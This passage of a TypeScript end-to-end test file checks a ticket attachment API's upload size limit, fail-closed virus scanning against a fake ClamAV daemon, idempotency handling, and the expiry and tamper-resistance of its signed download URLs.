        await download(reporter, kept.body.id).expect(200);
        for (const key of foreignKeys) await store.remove(key);
      });
    });
  });

  describe('at the default size limit, with virus scanning', () => {
    let t: TestApp;
    let clamd: FakeClamd;
    let port: number;
    let reporter: TestUser;

    beforeAll(async () => {
      clamd = new FakeClamd();
      const clamdPort = await clamd.start();
      t = await startTestApp({
        ...store.env,
        VIRUS_SCAN_ENABLED: 'true',
        CLAMAV_HOST: '127.0.0.1',
        CLAMAV_PORT: String(clamdPort),
      });
      port = await listen(t);
      reporter = t.user(Role.END_USER);
    });

    afterAll(async () => {
      clamd?.release();
      await clamd?.stop();
      await t?.close();
    });

    afterEach(() => {
      clamd.mode = 'clean';
    });

    function upload(ticketId: string, content: Buffer, filename: string, idempotencyKey?: string): supertest.Test {
      const request = t
        .http()
        .post(`/api/v1/tickets/${ticketId}/attachments`)
        .set(...auth(reporter));
      if (idempotencyKey) request.set('Idempotency-Key', idempotencyKey);
      return request.attach('file', content, filename);
    }

    const rowCount = (ticketId: string): Promise<number> => attachmentRowCount(t, ticketId);

    it('refuses 50 MiB + 1 byte streamed without a length with 413, keeping no file and no row', async () => {
      expect(t.config.storage.maxFileSize).toBe(50 * MiB);
      const ticket = await createTicket(t, reporter);
      const before = await store.keys();
      function* body(): Generator<Buffer> {
        yield multipartHead('huge.log');
        const chunk = Buffer.alloc(MiB, 'a');
        for (let left = 50 * MiB + 1; left > 0; left -= chunk.length) yield chunk.subarray(0, Math.min(left, MiB));
        yield MULTIPART_TAIL;
      }
      const request = rawUpload(port, reporter, ticket.id);
      const response = responseOf(request);
      Readable.from(body()).pipe(request);
      const res = await response;
      expect(res.status).toBe(413);
      expect(res.body.error_code).toBe('PAYLOAD_TOO_LARGE');
      expect(await store.keys()).toEqual(before);
      expect(await rowCount(ticket.id)).toBe(0);
      expect(clamd.scanned).toBe(0);
    });

    it('scans before storing: a clean file is kept', async () => {
      const ticket = await createTicket(t, reporter);
      const scannedBefore = clamd.scanned;
      await upload(ticket.id, Buffer.from('clean'), 'clean.txt').expect(201);
      expect(clamd.scanned).toBe(scannedBefore + 1);
      expect(await rowCount(ticket.id)).toBe(1);
    });

    it('refuses an infected file with 422 FILE_INFECTED and stores nothing', async () => {
      const ticket = await createTicket(t, reporter);
      clamd.mode = 'infected';
      const before = await store.keys();
      const res = await upload(ticket.id, Buffer.from('pretend malware'), 'payload.txt').expect(422);
      expect(res.body.error_code).toBe('FILE_INFECTED');
      expect(await store.keys()).toEqual(before);
      expect(await rowCount(ticket.id)).toBe(0);
    });

    it('answers 409 to a retry while the first upload with its key is still running', async () => {
      const ticket = await createTicket(t, reporter);
      const key = randomUUID();
      const content = Buffer.from('scanned slowly');
      clamd.mode = 'hold';
      const first = upload(ticket.id, content, 'slow.txt', key).then((res) => res);
      await until(() => clamd.held.length === 1, 'the first scan');
      const concurrent = await upload(ticket.id, content, 'slow.txt', key).expect(409);
      expect(concurrent.body.error_code).toBe('IDEMPOTENCY_KEY_IN_USE');
      clamd.release();
      const done = await first;
      expect(done.status).toBe(201);
      const replay = await upload(ticket.id, content, 'slow.txt', key).expect(201);
      expect(replay.body).toEqual(done.body);
      expect(await rowCount(ticket.id)).toBe(1);
    });

    it('fails closed with 503 SCAN_UNAVAILABLE when the scanner hangs up or is down, storing nothing', async () => {
      const ticket = await createTicket(t, reporter);
      const before = await store.keys();
      clamd.mode = 'hang-up';
      const hungUp = await upload(ticket.id, Buffer.from('x'), 'x.txt').expect(503);
      expect(hungUp.body.error_code).toBe('SCAN_UNAVAILABLE');
      // Spec §2: fail closed with a Retry-After, in seconds.
      expect(hungUp.headers['retry-after']).toMatch(/^[1-9]\d*$/);
      await clamd.stop();
      const down = await upload(ticket.id, Buffer.from('x'), 'x.txt').expect(503);
      expect(down.body.error_code).toBe('SCAN_UNAVAILABLE');
      expect(down.headers['retry-after']).toMatch(/^[1-9]\d*$/);
      expect(await store.keys()).toEqual(before);
      expect(await rowCount(ticket.id)).toBe(0);
    });
  });

  /** Redirect mode needs a store that signs URLs; the local disk is refused at start-up (app-config.spec.ts). */
  const signsUrls = OBJECT_STORE_KINDS.includes(kind);
  (signsUrls ? describe : describe.skip)(
    `in redirect mode${signsUrls ? '' : ' [skipped on the local disk: it cannot sign URLs; redirect mode is refused at start-up]'}`,
    () => {
      let t: TestApp;
      let reporter: TestUser;
      let attachment: Record<string, any>;
      const content = logBytes(300_000);

      beforeAll(async () => {
        t = await startTestApp({ ...store.env, ATTACHMENT_DOWNLOAD_MODE: 'redirect' });
        reporter = t.user(Role.END_USER);
        const ticket = await createTicket(t, reporter);
        attachment = (
          await t
            .http()
            .post(`/api/v1/tickets/${ticket.id}/attachments`)
            .set(...auth(reporter))
            .attach('file', content, 'Prüfbericht (März).log')
            .expect(201)
        ).body;
      });

      afterAll(async () => {
        await t?.close();
      });

      const get = (user: TestUser, id: string): supertest.Test =>
        t
          .http()
          .get(`/api/v1/attachments/${id}`)
          .set(...auth(user))
          .redirects(0);

      it('checks access as in proxy mode, then answers 302 to a signed URL that expires within 5 minutes', async () => {
        await get(t.user(Role.END_USER), attachment.id).expect(404);
        await get(reporter, randomUUID()).expect(404);
        const signedAt = Date.now();
        const res = await get(reporter, attachment.id).expect(302);
        expect(res.headers['cache-control']).toBe('private, no-store');
        const expiresAt = signedUrlExpiry(new URL(res.headers.location));
        expect(expiresAt).toBeLessThanOrEqual(signedAt + 300_000 + 1_000);
        expect(expiresAt).toBeGreaterThan(signedAt + 240_000);
        await get(reporter, attachment.id).set('If-None-Match', `"${attachment.sha256}"`).expect(304);
      });

      it('the signed URL serves the stored bytes as an attachment under the stored name, and ranges', async () => {
        const location = (await get(reporter, attachment.id).expect(302)).headers.location;
        const whole = await fetch(location);
        expect(whole.status).toBe(200);
        expect(whole.headers.get('content-disposition')).toBe(
          "attachment; filename*=UTF-8''Pr%C3%BCfbericht%20%28M%C3%A4rz%29.log",
        );
        expect(whole.headers.get('content-type')).toBe('text/plain');
        expect(sha256(Buffer.from(await whole.arrayBuffer()))).toBe(attachment.sha256);
        const range = await fetch(location, { headers: { Range: 'bytes=1000-1999' } });
        expect(range.status).toBe(206);
        expect(Buffer.from(await range.arrayBuffer()).equals(content.subarray(1000, 2000))).toBe(true);
      });

      // s3rver checks a presigned URL's expiry but not its SigV4 signature (storage-drivers.e2e-spec.ts checks that).
      (kind === 'azure' ? it : it.skip)(
        `the store refuses the URL once its disposition or key is changed: the signature covers them${
          kind === 'azure' ? '' : ' [skipped on s3rver: it does not verify SigV4 signatures]'
        }`,
        async () => {
          const location = (await get(reporter, attachment.id).expect(302)).headers.location;
          const inline = new URL(location);
          const disposition = inline.searchParams.has('rscd') ? 'rscd' : 'response-content-disposition';
          inline.searchParams.set(disposition, 'inline');
          expect((await fetch(inline)).status).toBe(403);
          const otherKey = new URL(location);
          otherKey.pathname = otherKey.pathname.replace(/[0-9a-f]{12}$/, '000000000000');
          expect((await fetch(otherKey)).status).toBe(403);
        },
      );
    },
  );
});

/** When a signed URL expires: S3's X-Amz-Date + X-Amz-Expires, Azure's `se`. */
function signedUrlExpiry(url: URL): number {
  const se = url.searchParams.get('se');
  if (se !== null) return Date.parse(se);
  const date = url.searchParams.get('X-Amz-Date')!;
  const signedAt = Date.parse(
    `${date.slice(0, 4)}-${date.slice(4, 6)}-${date.slice(6, 8)}T${date.slice(9, 11)}:${date.slice(11, 13)}:${date.slice(13, 15)}Z`,
  );
  return signedAt + Number(url.searchParams.get('X-Amz-Expires')) * 1000;
}
